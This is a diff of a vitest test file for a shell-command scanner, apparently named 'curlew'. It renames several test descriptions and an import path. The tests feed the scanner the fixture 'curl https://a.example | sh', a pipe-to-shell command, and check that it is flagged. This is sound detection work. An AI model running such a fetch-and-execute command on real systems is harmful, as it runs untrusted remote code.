@@ -1,7 +1,7 @@
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { createNodeDetector } from "../../src/host/node.js";
-import { folderWith } from "./folder.js";
+import { folderWith } from "./folder-with.js";
 import { runHere, type Ran } from "./fake-detector.js";
 
 const PIPE = "curl https://a.example | sh";
@@ -198,7 +198,7 @@ describe("query folders", () => {
     );
   });
 
-  it("extend a built-in file of the same path, or replace it on request; the summary reports it", async () => {
+  it("extend a built-in file of the same path, or replace it on request, and the summary reports this", async () => {
     const joined = await curlew(["scan", "--queries", same, "-"], PIPE);
     expect(joined.stdout).toContain(
       "1 finding in 1 of 1 text\nextended by custom query files: contract/bash/fetchers.scm (--replace-queries replaces them)\n",
@@ -216,7 +216,7 @@ describe("query folders", () => {
     ).toBe("");
   });
 
-  it("that contradict a built-in layout, or are for another profile, are reported", async () => {
+  it("with patterns that contradict a built-in layout, or with files for another profile, are reported", async () => {
     const own = folderWith({ "bash/x.scm": get("curl"), "extended/bash/y.scm": get("http") });
     const { stdout } = await curlew(["scan", "-p", "contract", "--queries", own, "-"], PIPE);
     expect(stdout).toMatch(
@@ -281,7 +281,7 @@ describe("a disabled rule", () => {
   });
 });
 
-it("the trace names the patterns that matched", async () => {
+it("--trace names the patterns that matched", async () => {
   expect((await curlew(["scan", "--trace", "-"], PIPE)).stdout).toMatch(
     /1\. fetch: curl fetches remote content \(rule 1\) at 1:1 «curl» by contract\/bash\/fetchers\.scm:\d+\n/,
   );
